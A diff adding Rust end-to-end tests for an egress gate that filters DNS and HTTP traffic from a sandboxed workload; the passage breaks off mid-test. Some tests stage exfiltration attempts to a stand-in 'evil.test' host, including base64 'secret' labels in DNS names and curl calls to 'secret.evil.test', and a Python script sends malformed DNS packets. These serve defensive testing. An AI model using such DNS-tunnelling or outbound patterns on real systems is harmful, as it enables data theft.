@@ -1,0 +1,815 @@
+//! What leaves and what does not: names, bytes on the wire, the namespace's fate, and `run` itself.
+#![cfg(test)]
+
+use std::fs;
+use std::io::{Read, Write};
+use std::net::SocketAddr;
+use std::path::Path;
+use std::thread;
+use std::time::{Duration, Instant};
+
+use e2e::{
+    Arrivals, Attached, Dns, Identity, Job, Namespace, Nginx, ORIGIN_IPV4, ORIGIN_IPV6, Origin, OriginConfig,
+    Outcome, Received, Reply, Running, TcpServer, WORKLOAD_USER, World, pseudo_random_sha256, sha256_hex,
+};
+use nix::sys::signal::{Signal, kill};
+use nix::unistd::{Gid, Pid, Uid, chown};
+use serde_json::{Value, json};
+
+const PYTHON: &str = "/usr/bin/python3";
+
+/// A policy that allows the hosts of these authorities, and finds them at these addresses.
+fn allowing(world: &World, found: &[(&str, SocketAddr)]) -> String {
+    let hosts: Vec<_> = found.iter().map(|(authority, _)| authority.rsplit_once(':').unwrap().0).collect();
+    format!("version = 1\nallowed_hosts = {hosts:?}\n{}", world.upstream(found))
+}
+
+/// A policy that allows `api.test` only, at this origin.
+fn allowing_api(world: &World, origin: &Origin) -> String {
+    let port = if origin_is_plain(origin) { 80 } else { 443 };
+    allowing(world, &[(&format!("api.test:{port}"), origin.address())])
+}
+
+fn origin_is_plain(origin: &Origin) -> bool {
+    origin.address().port() == 80
+}
+
+/// A server without TLS on port 80.
+fn plain(alpn: &'static [&'static str]) -> OriginConfig {
+    OriginConfig { port: 80, identity: Identity::Plain, alpn, ..OriginConfig::default() }
+}
+
+/// curl in the gate namespace, without a gate, told where the origin is and to trust it.
+fn direct(world: &World, address: SocketAddr, arguments: &[&str]) -> Outcome {
+    let (ca, connect) = (world.origin_ca_file().display().to_string(), format!("::{address}"));
+    let line = [&["curl", "-sS", "--cacert", &ca, "--connect-to", &connect], arguments].concat();
+    world.job(world.gate_namespace(), line).run()
+}
+
+fn curl(gate: &Attached<'_>, arguments: &[&str]) -> Outcome {
+    gate.run([&["curl", "-sS"], arguments].concat())
+}
+
+/// What a Python script printed, as JSON.
+#[track_caller]
+fn python(job: Job<'_>) -> Value {
+    let outcome = job.run();
+    outcome.assert_success();
+    outcome.json()
+}
+
+fn script<'a>(text: &'a str, arguments: &[&'a str]) -> Vec<&'a str> {
+    [&[PYTHON, "-c", text], arguments].concat()
+}
+
+/// Asks for a fact until it is there.
+#[track_caller]
+fn until(what: &str, mut fact: impl FnMut() -> bool) {
+    let started = Instant::now();
+    while !fact() {
+        assert!(started.elapsed() < Duration::from_secs(20), "waited in vain: {what}");
+        thread::sleep(Duration::from_millis(5));
+    }
+}
+
+/// The lines of a log about one thing: `(field, value)` pairs that must all hold.
+fn lines<'a>(log: &'a [Value], wanted: &[(&str, Value)]) -> Vec<&'a Value> {
+    log.iter().filter(|line| wanted.iter().all(|(field, value)| line[*field] == *value)).collect()
+}
+
+/// Waits for the one line of the log about something, and sees that it stays the only one so far.
+#[track_caller]
+fn one_line(gate: &mut Attached<'_>, wanted: &[(&str, Value)]) -> Value {
+    let line = gate.wait_for_log(|line| wanted.iter().all(|(field, value)| line[*field] == *value));
+    let log = gate.log();
+    assert_eq!(lines(&log, wanted).len(), 1, "{wanted:?} in {log:#?}");
+    line
+}
+
+mod names {
+    use super::*;
+
+    /// Addresses that a workload may ask, whether somebody is there or not: `ORIGIN_IPV4` has a name
+    /// server that would answer.
+    const SERVERS: [&str; 7] =
+        ["192.0.2.53", "10.77.0.2", "127.0.0.53", "127.0.0.11", "2001:db8::53", "fd77::2", "::1"];
+    const TRANSPORTS: [&str; 2] = ["+notcp", "+tcp"];
+
+    #[derive(Debug, PartialEq, Eq)]
+    struct Answer {
+        status: String,
+        /// `NAME TTL CLASS TYPE DATA`.
+        records: Vec<String>,
+    }
+
+    impl Answer {
+        #[track_caller]
+        fn data(&self) -> &str {
+            match self.records.as_slice() {
+                [record] => record.rsplit_once(' ').unwrap().1,
+                records => panic!("not one record: {records:?} {}", self.status),
+            }
+        }
+
+        #[track_caller]
+        fn assert_is(&self, status: &str, records: usize) {
+            assert_eq!((self.status.as_str(), self.records.len()), (status, records), "{self:?}");
+        }
+    }
+
+    #[track_caller]
+    fn dig(gate: &Attached<'_>, arguments: &[&str]) -> Answer {
+        let flags = ["dig", "+noall", "+comments", "+answer", "+time=5", "+tries=1"];
+        let outcome = gate.run([&flags, arguments].concat());
+        outcome.assert_success();
+        let header = outcome.stdout.lines().find(|line| line.contains("status: ")).unwrap();
+        let status = header.split("status: ").nth(1).unwrap().split(',').next().unwrap().to_owned();
+        let records = outcome.stdout.lines().filter(|line| !line.starts_with(';') && !line.is_empty());
+        let records =
+            records.map(|line| line.split_whitespace().collect::<Vec<_>>().join(" ")).collect::<Vec<_>>();
+        Answer { status, records }
+    }
+
+    /// A world with a name server that knows `api.test` and `evil.test`, and counts.
+    fn world_with_names(test: &str) -> (World, Origin, Dns) {
+        let world = World::new(test);
+        let origin = Origin::echo(&world);
+        let dns =
+            Dns::start(&world, &[("api.test", ORIGIN_IPV4.into()), ("evil.test", ORIGIN_IPV4.into())]);
+        (world, origin, dns)
+    }
+
+    #[track_caller]
+    fn assert_nothing_left(world: &World, dns: &Dns) {
+        assert_eq!(dns.questions(), Vec::<String>::new());
+        assert_eq!(world.arrivals(), Arrivals::default());
+    }
+
+    #[test]
+    fn d01_allowed_name_has_a_synthetic_address_whoever_is_asked() {
+        let (world, origin, dns) = world_with_names("d01");
+        let found = [("api.test:443", origin.address()), ("other.test:443", origin.address())];
+        let gate = world.gate(&allowing(&world, &found)).attach();
+        let address = |kind: &str, name: &str, server: &str, transport: &str| {
+            let answer = dig(&gate, &[transport, &format!("@{server}"), name, kind]);
+            answer.assert_is("NOERROR", 1);
+            let ttl: u32 = answer.records[0].split(' ').nth(1).unwrap().parse().unwrap();
+            assert!(ttl <= 60, "{answer:?}");
+            answer.data().to_owned()
+        };
+        let first = ["A", "AAAA"].map(|kind| address(kind, "api.test", SERVERS[0], "+notcp"));
+        assert!(first[0].starts_with("198.18.") || first[0].starts_with("198.19."), "{first:?}");
+        assert!(first[1].starts_with("fd"), "{first:?}");
+        for server in SERVERS {
+            for transport in TRANSPORTS {
+                let again = ["A", "AAAA"].map(|kind| address(kind, "api.test", server, transport));
+                assert_eq!(again, first, "{server} {transport}");
+            }
+        }
+        let other = ["A", "AAAA"].map(|kind| address(kind, "other.test", SERVERS[1], "+tcp"));
+        assert!(first.iter().zip(&other).all(|(first, other)| first != other), "{first:?} {other:?}");
+        assert_nothing_left(&world, &dns);
+
+        // The address leads somewhere, by both families.
+        for family in ["-4", "-6"] {
+            curl(&gate, &[family, "https://api.test/"]).assert_success();
+        }
+        assert_eq!(origin.requests().len(), 2);
+        assert_eq!((dns.questions().len(), world.arrivals().udp), (0, 0));
+    }
+
+    #[test]
+    fn d02_refused_name_has_the_sink_address_which_explains_itself() {
+        let (world, origin, dns) = world_with_names("d02");
+        let policy = allowing_api(&world, &origin) + "[dns]\nsearch = [\"corp.test\"]\n";
+        let mut gate = world.gate(&policy).attach();
+        let allowed = dig(&gate, &["@192.0.2.53", "api.test", "A"]);
+        for kind in ["A", "AAAA"] {
+            let sink = dig(&gate, &["@192.0.2.53", "evil.test", kind]);
+            sink.assert_is("NOERROR", 1);
+            assert_ne!(sink.data(), allowed.data());
+            for server in SERVERS {
+                let other = dig(&gate, &[&format!("@{server}"), "+tcp", "more.evil.test", kind]);
+                assert_eq!(other.data(), sink.data(), "{server}");
+            }
+        }
+        for hidden in ["intranet", "evil.test.corp.test", "9.2.0.192.in-addr.arpa"] {
+            dig(&gate, &["@192.0.2.53", hidden, "A"]).assert_is("NXDOMAIN", 0);
+        }
+        let name = |name: &str| [("kind", json!("dns")), ("host", json!(name))];
+        let line = one_line(&mut gate, &name("evil.test"));
+        assert_eq!((&line["verdict"], &line["reason"]), (&json!("refused"), &json!("not_in_allowed_hosts")));
+
+        for (number, (url, family)) in
+            [("https://evil.test/a", "-4"), ("https://evil.test/b", "-6"), ("http://evil.test/c", "-4")]
+                .into_iter()
+                .enumerate()
+        {
+            let outcome = curl(&gate, &[family, "-w", "\n%{http_code}", url]);
+            let (body, status) = outcome.assert_success().stdout.rsplit_once('\n').unwrap();
+            let body: Value = serde_json::from_str(body).unwrap();
+            assert_eq!(status, "403", "{outcome:?}");
+            assert_eq!((&body["error"], &body["reason"]), (&json!("policy_denied"), &json!("not_in_allowed_hosts")));
+            let path = format!("/{}", ["a", "b", "c"][number]);
+            let wanted = [("kind", json!("exchange")), ("host", json!("evil.test")), ("path", json!(path))];
+            let line = one_line(&mut gate, &wanted);
+            assert_eq!((&line["verdict"], &line["status"]), (&json!("refused"), &json!(403)));
+        }
+        // What is neither HTTP nor TLS is reset, not left hanging.
+        let opaque = "
+import json, socket
+s = socket.create_connection(('evil.test', 5432), 10)
+s.sendall(bytes((0, 0, 0, 8, 4, 210, 22, 47)))
+try: print(json.dumps(s.recv(9).decode()))
+except ConnectionResetError: print(json.dumps('reset'))
+";
+        assert_eq!(python(gate.job(script(opaque, &[]))), "reset");
+        one_line(&mut gate, &[("kind", json!("flow")), ("reason", json!("opaque_flow"))]);
+        assert_eq!(origin.connections_seen().len(), 0);
+        assert_nothing_left(&world, &dns);
+    }
+
+    #[test]
+    fn d02_refused_name_does_not_exist_where_the_policy_prefers_that() {
+        let (world, origin, dns) = world_with_names("d02-nxdomain");
+        let policy = allowing_api(&world, &origin) + "[dns]\nrefused = \"nxdomain\"\n";
+        let mut gate = world.gate(&policy).attach();
+        for kind in ["A", "AAAA", "TXT"] {
+            dig(&gate, &["@192.0.2.53", "evil.test", kind]).assert_is("NXDOMAIN", 0);
+        }
+        assert_eq!(curl(&gate, &["https://evil.test/"]).code(), 6);
+        one_line(&mut gate, &[("kind", json!("dns")), ("host", json!("evil.test"))]);
+        curl(&gate, &["https://api.test/"]).assert_success();
+        assert_eq!(dns.questions().len(), 0);
+    }
+
+    #[test]
+    fn d05_other_types_have_no_data() {
+        let (world, origin, dns) = world_with_names("d05");
+        let gate = world.gate(&allowing_api(&world, &origin)).attach();
+        let kinds = ["TXT", "MX", "HTTPS", "SVCB", "SRV", "NS", "SOA", "CAA", "CNAME", "NULL", "TYPE65300"];
+        for kind in kinds {
+            for transport in TRANSPORTS {
+                dig(&gate, &[transport, "@192.0.2.53", "api.test", kind]).assert_is("NOERROR", 0);
+            }
+            let refused = dig(&gate, &["@192.0.2.53", "c2VjcmV0.evil.test", kind]);
+            assert_eq!(refused.records, Vec::<String>::new(), "{kind}");
+        }
+        assert_nothing_left(&world, &dns);
+    }
+
+    #[test]
+    fn d06_case_and_a_last_dot_make_no_difference() {
+        let (world, origin, dns) = world_with_names("d06");
+        let mut gate = world.gate(&allowing_api(&world, &origin)).attach();
+        for name in ["api.test", "evil.test"] {
+            let [lower, upper] = [name.to_owned(), name.to_uppercase()];
+            let mixed = name.replace('e', "E").replace('i', "I");
+            for kind in ["A", "AAAA"] {
+                let plain = dig(&gate, &["@192.0.2.53", &lower, kind]);
+                for other in [&upper, &mixed, &format!("{mixed}."), &format!("{lower}.")] {
+                    let answer = dig(&gate, &["@192.0.2.53", other, kind]);
+                    assert_eq!(answer.data(), plain.data(), "{other}");
+                    // Resolvers that randomise case drop an answer to another spelling.
+                    let asked = format!("{}. ", other.trim_end_matches('.'));
+                    assert!(answer.records[0].starts_with(&asked), "{answer:?}");
+                }
+            }
+        }
+        one_line(&mut gate, &[("kind", json!("dns")), ("host", json!("evil.test"))]);
+        curl(&gate, &["https://API.Test./"]).assert_success();
+        assert_eq!(origin.only_request().authority, "api.test");
+        assert_eq!(dns.questions().len(), 0);
+    }
+
+    /// Sends each message and then a good question by the same socket: what comes before the good
+    /// question's answer is the answer to the message.
+    const MALFORMED: &str = r"
+import json, socket, struct
+HEAD = lambda id, flags=0x0100, qd=1: struct.pack('>6H', id, flags, qd, 0, 0, 0)
+NAME = b'\x03api\x04test\x00'
+IN_A = struct.pack('>2H', 1, 1)
+GOOD = HEAD(999) + NAME + IN_A
+messages = {
+  'one byte': b'x', 'eleven bytes': HEAD(1)[:11],
+  'no question': HEAD(1), 'nothing asked': HEAD(1, qd=0),
+  'cut in the name': HEAD(1) + NAME[:6], 'cut after the name': HEAD(1) + NAME,
+  'points to itself': HEAD(1) + b'\xc0\x0c' + IN_A, 'points ahead': HEAD(1) + b'\xc0\xff' + IN_A,
+  'points in a circle': HEAD(1) + b'\x01a\xc0\x10\xc0\x0c' + IN_A,
+  'label of 64': HEAD(1) + b'\x40' + b'a' * 64 + b'\x00' + IN_A,
+  'name of 300': HEAD(1) + b'\x3b' .join([b'', *[b'a' * 59] * 5]) + b'\x00' + IN_A,
+  'many questions': HEAD(1, qd=65535) + NAME + IN_A, 'two questions': HEAD(1, qd=2) + (NAME + IN_A) * 2,
+  'garbage': bytes(range(1, 250)) * 2, 'garbage after': GOOD[:0] + HEAD(1) + NAME + IN_A + b'\xff' * 40,
+  'an answer': HEAD(1, 0x8180) + NAME + IN_A, 'an update': HEAD(1, 0x2800) + NAME + IN_A,
+  'chaos': HEAD(1) + b'\x07version\x04bind\x00' + struct.pack('>2H', 16, 3),
+  'any': HEAD(1) + NAME + struct.pack('>2H', 255, 1), 'transfer': HEAD(1) + NAME + struct.pack('>2H', 252, 1),
+  'larger than any question': HEAD(1) + NAME + IN_A + bytes(9000),
+}
+found = {}
+for title, message in messages.items():
+    for family, host in ((socket.AF_INET, '192.0.2.53'), (socket.AF_INET6, '2001:db8::53')):
+        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(10)
+        s.sendto(message, (host, 53)); s.sendto(GOOD, (host, 53))
+        answers = []
+        while True:
+            answer = s.recv(4096)
+            if answer[:2] == GOOD[:2]:
+                assert answer[3] & 15 == 0 and answer[7] == 1, answer
+                break
+            answers.append(answer[3] & 15)
+        found.setdefault(title, answers)
+        assert found[title] == answers, (title, found[title], answers)
+def tcp(*pieces, close=False):
+    s = socket.create_connection(('192.0.2.53', 53), 10); s.settimeout(15)
+    for piece in pieces: s.sendall(piece)
+    if close: s.shutdown(socket.SHUT_WR)
+    got = b''
+    try:
+        while piece := s.recv(4096): got += piece
+    except ConnectionResetError: pass
+    return len(got)
+frame = lambda message: struct.pack('>H', len(message)) + message
+found['tcp'] = {
+  'no length': tcp(b'\x00', close=True), 'length 0': tcp(frame(b''), close=True),
+  'length too large': tcp(b'\xff\xff' + GOOD), 'cut': tcp(frame(GOOD)[:-4], close=True),
+  'three at once': tcp(frame(GOOD) * 3, close=True), 'one': tcp(frame(GOOD), close=True),
+  'byte by byte': tcp(*(bytes((b,)) for b in frame(GOOD)), close=True),
+}
+print(json.dumps(found))
+";
+
+    #[test]
+    fn d10_malformed_questions_get_formerr_or_nothing() {
+        let (world, origin, dns) = world_with_names("d10");
+        let mut gate = world.gate(&allowing_api(&world, &origin)).attach();
+        let found = python(gate.job(script(MALFORMED, &[])));
+        const FORMERR: u64 = 1;
+        let expected = [
+            ("one byte", json!([])),
+            ("eleven bytes", json!([])),
+            ("an answer", json!([])),
+            // A question that was understood, and is not answered with addresses.
+            ("an update", json!([4])),
+            ("chaos", json!([5])),
+            ("any", json!([0])),
+            ("transfer", json!([0])),
+        ];
+        for (title, answers) in found.as_object().unwrap().iter().filter(|(title, _)| *title != "tcp") {
+            match expected.iter().find(|(expected, _)| expected == title) {
+                Some((_, expected)) => assert_eq!(answers, expected, "{title}"),
+                None => assert!(
+                    *answers == json!([]) || *answers == json!([FORMERR]),
+                    "{title}: {answers}"
+                ),
+            }
+        }
+        let tcp = &found["tcp"];
+        for title in ["no length", "length 0", "length too large", "cut"] {
+            assert_eq!(tcp[title], 0, "{title}");
+        }
+        let one = tcp["one"].as_u64().unwrap();
+        assert!(one > 20);
+        assert_eq!((tcp["three at once"].as_u64(), tcp["byte by byte"].as_u64()), (Some(3 * one), Some(one)));
+        assert!(Path::new("/proc").join(gate.running().pid().to_string()).exists());
+        dig(&gate, &["@192.0.2.53", "api.test"]).assert_is("NOERROR", 1);
+        assert_nothing_left(&world, &dns);
+    }
+
+    #[test]
+    fn no_question_leaves_though_the_gate_has_a_name_server() {
+        let world = World::new("own-names");
+        let origin = Origin::start_with(
+            &world,
+            OriginConfig { port: 443, ..OriginConfig::default() },
+            |_| Reply::text("hello"),
+        );
+        let dns = Dns::start(&world, &[("www.api.test", ORIGIN_IPV4.into())]);
+        // With a wildcard every label would be a byte out, were names resolved when asked.
+        let policy = format!(
+            "version = 1\nallowed_hosts = [\"*.api.test\"]\n{}dns = [\"{ORIGIN_IPV4}\"]\nallow_ranges = [\"10.77.0.0/24\"]\n",
+            world.upstream(&[])
+        );
+        let gate = world.gate(&policy).attach();
+        for number in 0..5 {
+            for (server, transport) in [("10.77.0.2", "+notcp"), ("192.0.2.53", "+tcp")] {
+                let name = format!("c2VjcmV0LXBhcnQt{number}.api.test");
+                dig(&gate, &[transport, &format!("@{server}"), &name]).assert_is("NOERROR", 1);
+                dig(&gate, &[transport, &format!("@{server}"), "evil.test"]).assert_is("NOERROR", 1);
+            }
+        }
+        assert_nothing_left(&world, &dns);
+        let refused = curl(&gate, &["-o", "/dev/null", "-w", "%{http_code}", "https://secret.evil.test/"]);
+        refused.assert_success().assert_stdout("403");
+        assert_nothing_left(&world, &dns);
+
+        curl(&gate, &["https://www.api.test/"]).assert_success().assert_stdout("hello");
+        let questions = dns.questions();
+        assert!(!questions.is_empty(), "the gate resolves what it dials");
+        assert!(questions.iter().all(|question| question.starts_with("www.api.test ")), "{questions:?}");
+        assert_eq!(origin.requests().len(), 1);
+    }
+
+    #[test]
+    fn dockers_resolver_is_taken_on_every_port() {
+        let (world, origin, dns) = world_with_names("docker-resolver");
+        let mut gate = world.gate(&allowing_api(&world, &origin)).attach();
+        let text = "
+import json, socket
+def attempt(kind, port):
+    s = socket.socket(socket.AF_INET, kind); s.settimeout(5)
+    try:
+        s.connect(('127.0.0.11', port)); s.send(b'hello'); s.recv(9)
+        return 'answered'
+    except (ConnectionResetError, ConnectionRefusedError): return 'refused'
+    except OSError as error: return str(error)
+print(json.dumps([attempt(kind, port) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM) for port in (443, 41234)]))
+";
+        assert_eq!(python(gate.job(script(text, &[]))), json!(["refused", "refused", "refused", "refused"]));
+        for port in [443, 41234] {
+            let destination = json!(format!("127.0.0.11:{port}"));
+            for protocol in ["tcp", "udp"] {
+                one_line(&mut gate, &[("original_destination", destination.clone()), ("protocol", json!(protocol))]);
+            }
+        }
+        assert_nothing_left(&world, &dns);
+    }
+}
+
+mod wire {
+    use super::*;
+
+    const VERSIONS: [&str; 2] = ["--http1.1", "--http2"];
+
+    /// A header block without what differs from one answer to the next, or from hop to hop.
+    fn essence(head: &str) -> Vec<String> {
+        let field = |line: &str| match line.split_once(": ") {
+            Some((name, value)) => format!("{}: {value}", name.to_lowercase()),
+            // HTTP/2 has no words behind the status.
+            None => line.split(' ').take(2).collect::<Vec<_>>().join(" "),
+        };
+        let mut fields: Vec<_> = head.lines().filter(|line| !line.is_empty()).map(field).collect();
+        fields.retain(|field| !field.starts_with("date: ") && !field.starts_with("connection: "));
+        fields.sort();
+        fields
+    }
+
+    /// What `curl -i` printed: the header block's essence, and the body.
+    #[track_caller]
+    fn answer(outcome: &Outcome) -> (Vec<String>, Vec<u8>) {
+        outcome.assert_success();
+        let bytes = &outcome.stdout_bytes;
+        let end = bytes.windows(4).position(|window| window == b"\r\n\r\n").expect("a header block") + 4;
+        (essence(&String::from_utf8_lossy(&bytes[..end])), bytes[end..].to_vec())
+    }
+
+    /// The most memory that a process ever had, in bytes.
+    fn peak_memory(pid: i32) -> u64 {
+        let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+        let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap();
+        line.trim().trim_end_matches(" kB").parse::<u64>().unwrap() * 1024
+    }
+
+    #[test]
+    fn w06_chunked_bodies_arrive_whole_and_memory_stays_flat() {
+        const LENGTH: u64 = 64 << 20;
+        let world = World::new("w06");
+        let start = |alpn| {
+            Origin::start_with(&world, OriginConfig { alpn, ..OriginConfig::default() }, |request| {
+                match request.method.as_str() {
+                    "GET" if request.path == "/small" => Reply::text("small"),
+                    "GET" => Reply::pseudo_random(LENGTH).chunked(),
+                    _ => Reply::text("thanks"),
+                }
+            })
+        };
+        let origins = [("h1.test", start(&["http/1.1"])), ("h2.test", start(&["h2"]))];
+        let found = [("h1.test:443", origins[0].1.address()), ("h2.test:443", origins[1].1.address())];
+        let mut gate = world.gate(&allowing(&world, &found)).attach();
+        let file = world.home().join("body").display().to_string();
+        let hash = pseudo_random_sha256(LENGTH);
+        for (name, _) in &origins {
+            curl(&gate, &[&format!("https://{name}/small")]).assert_success();
+        }
+        let before = peak_memory(gate.running().pid());
+        for (name, origin) in &origins {
+            for version in VERSIONS {
+                let url = format!("https://{name}/");
+                let download = curl(&gate, &["--fail", version, "-D", "-", "-o", &file, &url]);
+                let head = download.assert_success().stdout.to_lowercase();
+                assert!(!head.contains("content-length"), "{head}");
+                assert_eq!(head.contains("transfer-encoding: chunked"), version == "--http1.1", "{head}");
+                assert_eq!(sha256_hex(&fs::read(&file).unwrap()), hash, "{name} {version}");
+
+                let upload = format!("exec curl -sS --fail {version} -T - {url} < {file}");
+                gate.run(["sh", "-c", &upload]).assert_success().assert_stdout("thanks");
+                let received = origin.requests().pop().unwrap();
+                let sent = (received.body_length, received.body_sha256.as_str(), received.complete);
+                assert_eq!(sent, (LENGTH, hash.as_str(), true), "{name} {version}");
+                assert_eq!(received.header("content-length"), Vec::<&str>::new());
+            }
+        }
+        let grown = peak_memory(gate.running().pid()) - before;
+        assert!(grown < 16 << 20, "512 MiB passed and the gate grew by {grown} bytes");
+        let log = gate.log();
+        for field in ["request_bytes", "response_bytes"] {
+            let wanted = [(field, json!(LENGTH)), ("complete", json!(true)), ("verdict", json!("allowed"))];
+            assert_eq!(lines(&log, &wanted).len(), 4, "{field}: {log:#?}");
+        }
+    }
+
+    #[test]
+    fn w08_head_is_answered_as_without_the_gate() {
+        let world = World::new("w08");
+        world.file("site/page.txt", "line\n".repeat(2000));
+        let site = world.path("site").display().to_string();
+        let locations = format!(
+            "root {site}; location / {{ gzip on; gzip_types text/plain; }}
+             location /moved {{ return 301 https://api.test/; }} location /empty {{ return 204; }}"
+        );
+        let nginx = Nginx::start(&world, "api.test", 8443, &locations);
+        let origin = Origin::start(&world, |_| Reply::pseudo_random(123_456));
+        let found = [("api.test:443", nginx.address()), ("other.test:443", origin.address())];
+        let gate = world.gate(&allowing(&world, &found)).attach();
+        let cases: [&[&str]; 5] = [
+            &["https://api.test/page.txt"],
+            &["-H", "Accept-Encoding: gzip", "https://api.test/page.txt"],
+            &["https://api.test/missing"],
+            &["https://api.test/moved"],
+            &["https://api.test/empty"],
+        ];
+        for (number, arguments) in cases.iter().enumerate() {
+            for version in VERSIONS {
+                let arguments = [&["-I", version], *arguments].concat();
+                let (plain, through) = (direct(&world, nginx.address(), &arguments), curl(&gate, &arguments));
+                assert_eq!(answer(&through), answer(&plain), "{arguments:?}");
+                let stated = through.stdout.to_lowercase().contains("content-length: 10000");
+                assert_eq!(stated, number == 0, "{through:?}");
+            }
+        }
+        // No body is waited for or invented: the next request on the connection is in step.
+        let text = "
+import http.client, json, ssl
+connection = http.client.HTTPSConnection('other.test', timeout=20)
+def ask(method):
+    connection.request(method, '/'); answer = connection.getresponse()
+    return [answer.status, answer.getheader('content-length'), len(answer.read()), id(connection.sock)]
+answers = [ask(method) for method in ('HEAD', 'GET', 'HEAD', 'HEAD', 'GET')]
+print(json.dumps({'same': len({answer.pop() for answer in answers}) == 1, 'answers': answers}))
+";
+        let found = python(gate.job(script(text, &[])));
+        let (head, get) = (json!([200, "123456", 0]), json!([200, "123456", 123_456]));
+        assert_eq!(found, json!({ "same": true, "answers": [head, get, head, head, get] }));
+    }
+
+    #[test]
+    fn w09_answers_of_a_real_server_are_those_without_the_gate() {
+        let world = World::new("w09");
+        let text: String = (0..2000).map(|number| format!("line {number}\n")).collect();
+        world.file("site/page.txt", &text);
+        world.file("site/packed", [&[0x8b, 0x02, 0x80][..], b"hello brotli", &[3]].concat());
+        let site = world.path("site").display().to_string();
+        let nginx = Nginx::start(
+            &world,
+            "files.test",
+            8443,
+            &format!(
+                "root {site};
+                 location / {{ gzip on; gzip_min_length 1; gzip_types text/plain; gzip_vary on;
+                   add_header Set-Cookie \"a=1; Path=/; HttpOnly\"; add_header Set-Cookie \"b=2; Secure\";
+                   add_header X-Twice one; add_header X-Twice two; add_header X-Empty \"\"; add_header X-Odd \"a, b;  c\"; }}
+                 location /packed {{ default_type text/html; add_header Content-Encoding br always; }}"
+            ),
+        );
+        let gate = world.gate(&allowing(&world, &[("files.test:443", nginx.address())])).attach();
+        let page = "https://files.test/page.txt";
+        let etag = direct(&world, nginx.address(), &["-I", page]);
+        let etag = etag.stdout.lines().find_map(|line| line.to_lowercase().strip_prefix("etag: ").map(str::to_owned));
+        let unchanged = format!("If-None-Match: {}", etag.expect("nginx sends an ETag").trim());
+        let cases: &[(&[&str], &str)] = &[
+            (&[page], "200"),
+            (&["-r", "100-199", page], "206"),
+            (&["-r", "-50", page], "206"),
+            (&["-r", "99999999-", page], "416"),
+            (&["-H", "Accept-Encoding: gzip", page], "200"),
+            (&["--compressed", page], "200"),
+            (&["-H", &unchanged, page], "304"),
+            (&["-H", "Accept-Encoding: br", "https://files.test/packed"], "200"),
+            (&["--compressed", "https://files.test/packed"], "200"),
+            (&["https://files.test/absent"], "404"),
+        ];
+        for (arguments, status) in cases {
+            for version in VERSIONS {
+                let arguments = [&["-i", version], *arguments].concat();
+                let (plain, through) = (direct(&world, nginx.address(), &arguments), curl(&gate, &arguments));
+                let (plain, through) = (answer(&plain), answer(&through));
+                assert!(through.0.iter().any(|line| line.starts_with("HTTP/") && line.contains(status)), "{through:?}");
+                assert_eq!(through, plain, "{arguments:?}");
+            }
+        }
+        let (head, body) = answer(&curl(&gate, &["-i", page]));
+        assert_eq!(body, text.as_bytes());
+        for field in ["set-cookie: a=1; Path=/; HttpOnly", "set-cookie: b=2; Secure", "x-twice: one", "x-twice: two"] {
+            assert!(head.iter().any(|line| line == field), "{head:?}");
+        }
+    }
+
+    #[test]
+    fn w09_requests_arrive_as_without_the_gate() {
+        let world = World::new("w09-requests");
+        for (version, alpn) in [("--http1.1", &["http/1.1"][..]), ("--http2", &["h2"])] {
+            let origin =
+                Origin::start_with(&world, OriginConfig { alpn, ..OriginConfig::default() }, |_| Reply::text("ok"));
+            let gate = world.gate(&allowing_api(&world, &origin)).attach();
+            let arguments = [
+                version, "-X", "PATCH", "-H", "X-Twice: one", "-H", "X-Twice: two", "-H", "X-MiXeD-Case: 1",
+                "-H", "X-Empty;", "-H", "Accept: a/b;q=0.5, */*", "-H", "Cookie: a=1; b=2", "-H",
+                "X-Odd:   spaces  inside ", "-H", "X-Latin: caf\u{e9}", "-H", "Range: bytes=0-1",
+                "-H", "Accept-Encoding: br;q=1.0, gzip", "-H", "Content-Type: application/x-odd",
+                "--data-binary", "a=b&c=%20", "https://api.test/a%2Fb/../c;p=1//d?q=1&q=2&r=%zz#not-sent", "--path-as-is",
+            ];
+            direct(&world, origin.address(), &arguments).assert_success();
+            curl(&gate, &arguments).assert_success();
+            let [plain, through]: [Received; 2] = origin.requests().try_into().unwrap();
+            let sorted = |received: &Received| {
+                let mut headers = received.headers.clone();
+                headers.sort();
+                headers
+            };
+            assert_eq!(sorted(&through), sorted(&plain));
+            assert_eq!(
+                (&through.method, &through.path, &through.authority, &through.body_sha256),
+                (&plain.method, &plain.path, &plain.authority, &plain.body_sha256)
+            );
+            if version == "--http1.1" {
+                let raw = String::from_utf8_lossy(&origin.connections_seen()[1]).into_owned();
+                assert!(raw.contains("\r\nX-MiXeD-Case: 1\r\n"), "{raw}");
+                assert!(raw.contains("X-Twice: one\r\nX-Twice: two\r\n"), "{raw}");
+            }
+        }
+    }
+
+    /// Sends a request, says that nothing more comes, and reads to the end.
+    const HALF_CLOSE: &str = r"
+import hashlib, json, socket, ssl, sys
+mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+request = b'POST /half HTTP/1.1\r\nHost: ' + host.encode() + b'\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello'
+s = socket.create_connection((host, port), 20); s.settimeout(30)
+if mode == 'plain':
+    s.sendall(request); s.shutdown(socket.SHUT_WR)
+    read = lambda: s.recv(65536)
+else:
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    context = ssl.create_default_context(cafile=sys.argv[4])
+    tls = context.wrap_bio(incoming, outgoing, server_hostname=host)
+    def flush():
+        if data := outgoing.read(): s.sendall(data)
+    def step(operation):
+        while True:
+            try: result = operation()
+            except ssl.SSLWantReadError:
+                flush()
+                piece = s.recv(65536)
+                incoming.write(piece) if piece else incoming.write_eof()
+                continue
+            except (ssl.SSLZeroReturnError, ssl.SSLEOFError): return b''
+            flush()
+            return result
+    step(tls.do_handshake); step(lambda: tls.write(request))
+    if mode == 'tls':
+        try: tls.unwrap()
+        except ssl.SSLWantReadError: pass
+        flush()
+    s.shutdown(socket.SHUT_WR)
+    read = lambda: step(lambda: tls.read(65536))
+got = b''
+while piece := read(): got += piece
+head, _, body = got.partition(b'\r\n\r\n')
+print(json.dumps([head.split(b'\r\n')[0].decode(), len(body), hashlib.sha256(body).hexdigest()]))
+";
+
+    #[test]
+    fn w12_half_closed_client_gets_the_full_reply() {
+        const LENGTH: usize = 3_000_001;
+        let world = World::new("w12");
+        let (body, hash) = (vec![b'x'; LENGTH], sha256_hex(&vec![b'x'; LENGTH]));
